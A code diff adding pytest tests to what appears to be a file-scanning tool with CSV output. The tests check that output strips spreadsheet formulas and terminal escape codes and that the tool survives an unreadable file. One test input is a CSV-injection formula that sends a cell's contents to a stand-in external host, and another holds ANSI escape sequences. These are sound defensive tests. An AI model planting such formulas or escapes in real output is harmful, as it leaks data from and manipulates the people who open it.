@@ -64,6 +64,35 @@ def test_each_finding_is_a_line_with_file_code_clause_strength_and_excerpt(folde
     ]
 
 
+def test_no_cell_is_a_formula(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://img.example.net/?x="&A1) \u0415lena Rivera\nTeacher\na@b.example'
+    (tmp_path / "=cmd.txt").write_text(formula)
+    rows = list(csv.reader(io.StringIO(printed(str(tmp_path), "--csv"))))
+    assert len(rows) > 1
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+def test_no_line_commands_a_terminal(tmp_path: Path) -> None:
+    (tmp_path / "\x1b[31m.txt").write_text("\x1b]0;x\x07Elena \x1b[31m elena@gmail.com\n")
+    assert "\x1b" not in printed(str(tmp_path))
+
+
+def test_a_file_that_cannot_be_read_leaves_the_others(
+    folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    opened = Path.open
+
+    def refused(path: Path, *args: Any, **options: Any) -> Any:
+        if path.name == "nobody.txt":
+            raise PermissionError
+        return opened(path, *args, **options)
+
+    monkeypatch.setattr(Path, "open", refused)
+    told = printed(str(folder))
+    assert "nobody.txt  not-readable" in told
+    assert "Files: 6." in told
+
+
 def test_without_csv_it_says_how_many_there_are(folder: Path) -> None:
     assert "Files: 6. Without a finding: 1. Findings: 7." in printed(str(folder))
 
